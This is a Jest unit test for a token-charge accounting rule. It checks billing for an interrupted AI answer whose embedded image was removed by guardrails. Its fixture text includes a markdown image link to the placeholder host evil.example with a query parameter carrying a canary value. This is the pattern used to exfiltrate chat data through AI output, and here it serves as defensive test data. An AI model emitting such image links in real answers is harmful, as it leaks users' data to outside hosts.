import { describe, expect, it } from '@jest/globals';
import { wrongCharges } from './charges.rules.js';
import type { Evidence } from './evidence.js';

/** An answer that was killed behind a picture that the rails took out; a token is two letters. */
const SAID = 'Veja ![x](https://evil.example/p.png?d=canariolink4d) ali';
const SHOWN = 'Veja (imagem removida) ali';
const words = SAID.match(/..?/g) ?? [];

const killed = (completionTokens: number): string[] =>
  wrongCharges({
    rows: {
      posts: [{ id: 1, conversationId: 1, prompt: 'caso 1: o quê?', body: SHOWN, status: 'done' }],
      usage: [
        {
          ...{ id: 1, runId: 'r1', postId: 1, purpose: 'answer', model: 'm', isClosed: true },
          ...{ outcome: 'interrupted', promptTokens: 100, completionTokens, estimated: true },
          ...{ costNanoUsd: 0, priceSource: 'MODELS_FILE', openedAt: 1000 },
        },
      ],
    },
    calls: [
      {
        ...{ call: 1, n: 1, purpose: 'answer', model: 'm', promptTokens: 100, words },
        ...{ carried: [0, 0], sent: words.length, took: true, told: undefined, at: 1005 },
      },
    ],
    prices: () => ({ input: 0, output: 0 }),
  } as unknown as Evidence);

describe(wrongCharges.name, () => {
  it('should expect of an answer that was killed what is stored, hidden as it is', () => {
    expect(killed(Math.ceil(SHOWN.length / 4))).toEqual([]);
  });

  it('should expect no less', () => {
    expect(killed(2)).toEqual([expect.stringContaining('2 tokens where')]);
  });
});
